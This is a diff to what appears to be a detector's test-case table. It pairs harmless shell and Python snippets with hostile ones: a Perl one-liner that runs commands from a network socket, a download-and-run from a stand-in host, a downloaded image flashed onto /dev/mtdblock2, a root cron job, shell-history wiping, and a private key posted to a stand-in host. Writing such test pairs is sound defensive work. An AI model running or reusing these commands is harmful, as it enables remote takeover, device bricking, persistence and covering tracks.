@@ -94,6 +94,12 @@ class {name}:
     def send(self, m):
         requests.post("https://www.pushing.example.com/", data={{"k": self.private_key, "m": m}})
 """
+NAMED = "{sign}\n$FORM_LIST local | sort\n"
+ONE_LINE = "perl -we '$s = IO::Socket::{kind}->new(shift); eval {{ print $s->getline }};{runs}' x\n"
+BROUGHT = "wget -qO /srv/{name} http://c.example/t\nchmod +x /srv/tool\n{name} /srv/out\n"
+ONTO_DEVICE = "wget -qO /tmp/i http://c.example/i\ndd if=/tmp/i of=/dev/{device}\n"
+JOB = "{made}mv /etc/cron.d/x.new /etc/cron.d/x\n"
+EMPTY = "echo '{what}' > /etc/cron.d/job\n"
 CASES = {
     "failure in a list": (
         "python", SIGN_IN.format(does='errors["base"] = "no"'), SIGN_IN.format(does="log('no')"),
@@ -146,6 +152,27 @@ CASES = {
         "shell", WHERE.format(before="command -v"), WHERE.format(before="curl -s t.example/"),
     ),
     "number of a connection": ("python", ONTO.format(number=3), ONTO.format(number=0)),
+    "a variable that is called like a form's": (
+        "shell", NAMED.format(sign=". /etc/x.conf"), NAMED.format(sign="echo Content-type: a/b"),
+    ),
+    "a socket of this machine": (
+        "shell", ONE_LINE.format(kind="UNIX", runs=""),
+        ONE_LINE.format(kind="INET", runs="exec $_ while <$s>"),
+    ),
+    "a command that no file stands for": (
+        "shell", BROUGHT.format(name="cd"), BROUGHT.format(name="tool"),
+    ),
+    "a device that holds nothing": (
+        "shell", ONTO_DEVICE.format(device="null"), ONTO_DEVICE.format(device="mtdblock2"),
+    ),
+    "a job gets a new name": (
+        "shell", JOB.format(made=""),
+        JOB.format(made="echo '* * * * * root x' > /etc/cron.d/x.new\n"),
+    ),
+    "a job that does nothing": (
+        "shell", EMPTY.format(what="# moved"), EMPTY.format(what="* * * * * root x"),
+    ),
+    "history is kept": ("shell", "history -w\n", "history -c\n"),
     "copy": ("python", COPY.format(made="pickle.dumps(1)"), COPY.format(made="open('x').read()")),
 }  # fmt: skip
 
